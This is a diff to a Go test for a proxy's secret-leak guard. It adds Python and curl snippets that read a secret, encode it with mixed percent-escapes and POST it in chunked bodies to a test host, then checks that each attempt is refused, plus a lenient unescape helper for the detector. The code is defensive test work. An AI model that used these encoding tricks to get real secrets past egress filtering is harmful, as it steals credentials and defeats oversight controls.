@@ -6,13 +6,14 @@ import (
 	"compress/zlib"
 	"fmt"
 	"io"
+	"strconv"
 	"strings"
 	"testing"
 )
 
 // leakEncodedPy is the Python half of TestLeakGuardEncoded: the secret
-// gzip- and deflate-compressed (whole and chunked) and fully
-// percent-encoded, each POSTed through the proxy to a host it is not bound
+// gzip- and deflate-compressed (whole and chunked), fully percent-encoded
+// and with mixed escapes (chunked), each POSTed through the proxy to a host it is not bound
 // to.
 const leakEncodedPy = `import gzip, os, sys, urllib.error, urllib.request, zlib
 s = open(os.environ["LEAK_FILE"]).read().strip()
@@ -34,14 +35,17 @@ post("py-gzip-chunked", "https://other.example.test/ok/leak-py-chunked", iter([g
 pe = "".join("%%%02X" % b for b in s.encode())
 post("py-pct-query", "https://other.example.test/ok/leak-py-pct-query?t=" + pe, b"x", {})
 post("py-pct-body", "https://other.example.test/ok/leak-py-pct-body", ("t=" + pe.lower()).encode(), {"Content-Type": "application/x-www-form-urlencoded"})
+mix = "".join(("%%%02x" % b) if i % 2 == 0 else chr(b) for i, b in enumerate(s.encode()))
+post("py-mixed-chunked", "https://other.example.test/ok/leak-py-mixed", iter([b"a=1&t=", mix.encode(), b"&b=2"]), {"Content-Type": "application/x-www-form-urlencoded"})
 post("py-clean", "https://other.example.test/ok/py-clean", gzip.compress(b"clean python body"), {"Content-Encoding": "gzip"})
 `
 
 // TestLeakGuardEncoded: the child knows a real secret and sends it to a
 // host it is not bound to (egress.inspect: all) gzip- and
 // deflate-compressed, doubly gzipped, in a chunked upload, in a coding the
-// guard cannot read, and with every byte percent-encoded in the query, a
-// header and the body, from curl and from Python. Every attempt is refused
+// guard cannot read, with every byte percent-encoded in the query, a header
+// and the body, and with escapes mixing encoded and plain characters in a
+// chunked body, from curl and from Python. Every attempt is refused
 // and the upstream never gets bytes that carry or decode to the secret;
 // clean compressed bodies arrive byte for byte as sent.
 func TestLeakGuardEncoded(t *testing.T) {
@@ -78,6 +82,9 @@ PE=$(printf %s "$pe" | tr a-f A-F)
 		curlTo("pct-query", `https://other.example.test/ok/leak-pct-query?t='"$PE"'`) +
 		curlTo("pct-header", "https://other.example.test/ok/leak-pct-header", `-H "X-Token: $pe"`) +
 		curlTo("pct-body", "https://other.example.test/ok/leak-pct-body", `--data-binary "t=$PE"`) +
+		`mx="%65%32%65%2d%6C%65%61%6b%2D${s#e2e-leak-}"
+printf 't=%s&more' "$mx" > "$T/mixed"
+` + curlTo("mixed-chunked", "https://other.example.test/ok/leak-mixed-chunked", `-H 'Transfer-Encoding: chunked' --data-binary @"$T/mixed"`) +
 		curlTo("clean", "https://other.example.test/ok/clean", `-H 'Content-Encoding: gzip' --data-binary @"$CLEAN_FILE"`) +
 		`rm -rf "$T"
 `
@@ -98,9 +105,9 @@ PE=$(printf %s "$pe" | tr a-f A-F)
 	}
 	ph := s.placeholder(t, "API_TOKEN")
 	want := map[string]string{"gzip": "403", "gzip-chunked": "403", "gzip-gzip": "403", "br": "415",
-		"pct-query": "403", "pct-header": "403", "pct-body": "403"}
+		"pct-query": "403", "pct-header": "403", "pct-body": "403", "mixed-chunked": "403"}
 	if pythonExe != "" {
-		for _, n := range []string{"py-gzip", "py-deflate", "py-gzip-chunked", "py-pct-query", "py-pct-body"} {
+		for _, n := range []string{"py-gzip", "py-deflate", "py-gzip-chunked", "py-pct-query", "py-pct-body", "py-mixed-chunked"} {
 			want[n] = "403"
 		}
 		want["py-clean"] = "200"
@@ -158,6 +165,9 @@ func carriesEncoded(r recordedRequest, secret string) bool {
 	if strings.Contains(text, strings.ToUpper(secret)) || strings.Contains(text, pe.String()) {
 		return true
 	}
+	if strings.Contains(unescapeLenient(r.Path+"?"+r.RawQuery+fmt.Sprint(r.Header)+r.Body), secret) {
+		return true // escapes mixing encoded and plain characters
+	}
 	body := []byte(r.Body)
 	for i := 0; i < 3 && len(body) > 0; i++ {
 		if d := gunzipAll(body); len(d) > 0 {
@@ -193,4 +203,20 @@ func gunzipAll(b []byte) []byte {
 	}
 	out, _ := io.ReadAll(z)
 	return out
+}
+
+// unescapeLenient decodes every valid %XX in s and keeps the rest.
+func unescapeLenient(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '%' && i+2 < len(s) {
+			if v, err := strconv.ParseUint(s[i+1:i+3], 16, 8); err == nil {
+				b.WriteByte(byte(v))
+				i += 2
+				continue
+			}
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
 }
